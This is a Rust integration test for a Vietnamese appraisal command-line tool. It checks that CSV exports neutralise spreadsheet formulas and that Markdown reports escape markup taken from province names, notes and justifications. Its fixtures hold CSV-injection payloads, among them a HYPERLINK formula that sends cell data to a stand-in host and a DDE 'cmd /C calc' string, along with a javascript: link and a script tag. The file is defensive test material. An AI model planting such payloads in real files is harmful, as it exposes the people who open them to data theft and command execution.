//! SPEC R7 for the files the command line writes: what provinces and users wrote cannot become a
//! spreadsheet formula in a CSV export, nor a link, an image, emphasis or HTML in a Markdown
//! report; `--raw` writes CSV cells as they are, for programs.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use api::Workbench;
use common::{FRAMEWORK, YEAR, key, p};
use domain::{Command as Cmd, Evidence, Role, SelfRow};
use engine::LocalWorkbench;
use store::Store;

/// The formulas of SPEC R7: each in a unit's name, its note and its justification.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Xem\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
];

/// Markdown that must stay text: a link, an image, emphasis, code, HTML, a table's `|`, a
/// heading and a quote.
const MARKUP: &str = "# Tỉnh [x](javascript:alert(1)) ![i](http://x/a.png) *đậm* _nghiêng_ `mã` \
                      <script>alert(1)</script> | > trích";

/// Units 44, 45, 46, 47 named by the four formulas, 48 by the Markdown.
const UNITS: [&str; 5] = ["44", "45", "46", "47", "48"];

fn me() -> String {
    uzers::get_current_username()
        .expect("passwd entry")
        .to_string_lossy()
        .into_owned()
}

fn toml_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn units_toml() -> String {
    let mut t = String::from(
        "[unit_set]\nid = \"hostile\"\nname = \"Năm tỉnh\"\n\n\
         [[region]]\ncode = \"BTB\"\nname = \"Bắc Trung Bộ\"\n",
    );
    for (i, code) in UNITS.iter().enumerate() {
        let name = FORMULAS.get(i).copied().unwrap_or(MARKUP);
        t.push_str(&format!(
            "\n[[unit]]\ncode = \"{code}\"\nname = {}\nregion = \"BTB\"\n",
            toml_string(name)
        ));
    }
    t
}

/// A store whose unit names are hostile; each unit's leaves carry its text as the note, and
/// 1.1.1 is adjusted with it as the justification. This OS user is the lead.
fn hostile_store(tmp: &Path) -> PathBuf {
    let dir = tmp.join("st");
    let lead = LocalWorkbench::new(Store::create(&dir).expect("create store"), "lead");
    lead.apply(Cmd::OpenYear {
        year: YEAR,
        framework_toml: FRAMEWORK.into(),
        framework_file: "test-framework.toml".into(),
        units_toml: units_toml(),
        units_file: "hostile-units.toml".into(),
        from_year: None,
    })
    .expect("open year");
    lead.apply(Cmd::SetMember {
        user: me(),
        role: Role::Lead,
    })
    .expect("add this user");
    let mut rows = Vec::new();
    for (i, unit) in UNITS.iter().enumerate() {
        let text = FORMULAS.get(i).copied().unwrap_or(MARKUP);
        for (leaf, score) in [("1.1.1", "2"), ("1.1.2", "1.5"), ("2.1.1", "4")] {
            rows.push(SelfRow {
                unit: unit.to_string(),
                leaf: leaf.into(),
                score: p(score),
                note: text.into(),
                evidence: vec![Evidence {
                    number: "12/KH-UBND".into(),
                    title: "Kế hoạch".into(),
                    date: "2024-01-10".into(),
                    link: String::new(),
                }],
            });
        }
    }
    lead.apply(Cmd::ImportSelf { year: YEAR, rows })
        .expect("import self");
    for (i, unit) in UNITS.iter().enumerate() {
        let text = FORMULAS.get(i).copied().unwrap_or(MARKUP);
        let k = key(unit, "1.1.1");
        lead.apply(Cmd::Adjust {
            key: k.clone(),
            score: p("1.5"),
            justification: format!("{text}\n# Dòng hai\n> dòng ba của lý do"),
            expected: common::version(&lead, &k),
        })
        .expect("adjust");
    }
    dir
}

/// Run in the store's parent folder, where files are written.
fn run(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_thamdinh"))
        .args(["--lang", "en", "--store"])
        .arg(dir)
        .args(args)
        .current_dir(dir.parent().expect("the store's parent"))
        .output()
        .expect("run thamdinh")
}

fn ok(dir: &Path, args: &[&str]) -> String {
    let out = run(dir, args);
    assert!(
        out.status.success(),
        "thamdinh {args:?} failed:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8 output")
}

fn records(text: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let header = rd.headers().unwrap().iter().map(String::from).collect();
    (header, rd.records().map(Result::unwrap).collect())
}

/// Does a spreadsheet read `cell` as a formula?
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_exports_neutralise_formulas_and_raw_writes_them_as_they_are() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = hostile_store(tmp.path());
    ok(&dir, &["export", "-o", "safe.csv"]);
    ok(
        &dir,
        &["export", "--format", "csv", "--raw", "-o", "raw.csv"],
    );
    let read = |name: &str| std::fs::read_to_string(tmp.path().join(name)).unwrap();
    let (header, safe) = records(&read("safe.csv"));
    let (_, raw) = records(&read("raw.csv"));
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    for (i, formula_text) in FORMULAS.iter().enumerate() {
        let find = |rows: &[csv::StringRecord]| {
            rows.iter()
                .find(|r| &r[col("unit")] == UNITS[i] && &r[col("code")] == "1.1.1")
                .cloned()
                .expect("the unit's 1.1.1")
        };
        let (s, r) = (find(&safe), find(&raw));
        let justification = format!("{formula_text}\n# Dòng hai\n> dòng ba của lý do");
        for name in ["unit_name", "note"] {
            assert_eq!(&s[col(name)], format!("'{formula_text}"), "{name}");
            assert_eq!(&r[col(name)], *formula_text, "{name} with --raw");
        }
        assert_eq!(&s[col("justification")], format!("'{justification}"));
        assert_eq!(&r[col("justification")], justification);
        // The Δ column keeps its negative number.
        assert_eq!(&s[col("delta")], "-0.50");
    }
    let numbers = ["year", "max", "self_score", "proposed", "delta"].map(col);
    for rec in &safe {
        for (i, cell) in rec.iter().enumerate() {
            assert!(
                numbers.contains(&i) || !formula(cell),
                "column {}: {cell:?}",
                header[i]
            );
        }
    }
    // The file imports again with its texts as they were: no change to record.
    let out = run(&dir, &["import", "self", "safe.csv", "--dry-run"]);
    let preview = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{preview}");
    assert!(
        preview.contains("0 note or evidence changed only (~)"),
        "{preview}"
    );
}

#[test]
fn ranking_csv_neutralises_unit_names_and_raw_writes_them_as_they_are() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = hostile_store(tmp.path());
    let (header, safe) = records(&ok(&dir, &["report", "ranking", "--format", "csv"]));
    let (_, raw) = records(&ok(
        &dir,
        &["report", "ranking", "--format", "csv", "--raw"],
    ));
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    for (i, formula_text) in FORMULAS.iter().enumerate() {
        let name_of = |rows: &[csv::StringRecord]| {
            rows.iter()
                .find(|r| &r[col("unit")] == UNITS[i])
                .map(|r| r[col("unit_name")].to_string())
                .expect("the unit's row")
        };
        assert_eq!(name_of(&safe), format!("'{formula_text}"));
        assert_eq!(name_of(&raw), *formula_text);
    }
    let numbers = ["rank_change"].map(col);
    for rec in &safe {
        for (i, cell) in rec.iter().enumerate() {
            assert!(numbers.contains(&i) || !formula(cell), "{cell:?}");
        }
    }
}

#[test]
fn raw_is_for_csv_only() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = hostile_store(tmp.path());
    for args in [
        &["export", "--format", "json", "--raw", "-o", "x.json"][..],
        &["report", "ranking", "--raw"],
    ] {
        let out = run(&dir, args);
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--raw is for --format csv only"), "{err}");
    }
    let out = Command::new(env!("CARGO_BIN_EXE_thamdinh"))
        .args(["--lang", "vi", "--store"])
        .arg(&dir)
        .args(["report", "ranking", "--format", "md", "--raw"])
        .current_dir(tmp.path())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--raw chỉ dùng với --format csv"), "{err}");
}

/// The Markdown text as a viewer must show it, escaped.
const MARKUP_ESCAPED: &str = "\\# Tỉnh \\[x\\](javascript:alert(1)) !\\[i\\](http://x/a.png) \
                              \\*đậm\\* \\_nghiêng\\_ \\`mã\\` &lt;script&gt;alert(1)&lt;/script&gt; \
                              \\| &gt; trích";

fn assert_inert(md: &str) {
    for live in [
        "[x](",
        "![i](",
        "*đậm*",
        "_nghiêng_",
        "`mã`",
        "<script>",
        "\n# Dòng hai",
        "\n> dòng ba của lý do",
    ] {
        assert!(!md.contains(live), "{live:?} is live in:\n{md}");
    }
}

#[test]
fn markdown_reports_show_hostile_names_and_justifications_as_text() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = hostile_store(tmp.path());
    let card = ok(&dir, &["report", "unit", "48"]);
    assert!(
        card.starts_with(&format!(
            "# Appraisal scorecard — 48 {MARKUP_ESCAPED} (year 2024)\n"
        )),
        "{card}"
    );
    // The justification, in its table cell: one line, its own lines as <br> (inline there,
    // so "# " after a <br> starts no heading).
    assert!(
        card.contains(&format!(
            "| {MARKUP_ESCAPED}<br># Dòng hai<br>&gt; dòng ba của lý do |"
        )),
        "{card}"
    );
    assert_inert(&card);

    let ranking = ok(&dir, &["report", "ranking"]);
    assert!(
        ranking.contains(&format!("| 48 | {MARKUP_ESCAPED} |")),
        "{ranking}"
    );
    assert_inert(&ranking);
    // Every table row keeps its columns: no `|` of a name splits a cell.
    for table_row in ranking.lines().filter(|l| l.starts_with("| ")) {
        let cells = table_row.replace("\\|", "").matches('|').count();
        assert!(cells == 11 || cells == 6, "{table_row}");
    }

    let card = ok(&dir, &["report", "unit", "44"]);
    assert!(
        card.contains(
            "# Appraisal scorecard — 44 \\=HYPERLINK(\"http://x.example/?d=\"&amp;A1,\"Xem\") \
             (year 2024)"
        ),
        "{card}"
    );
    let card = ok(&dir, &["report", "unit", "47"]);
    assert!(
        card.contains("| \\-2+3<br># Dòng hai<br>&gt; dòng ba của lý do |"),
        "{card}"
    );
}
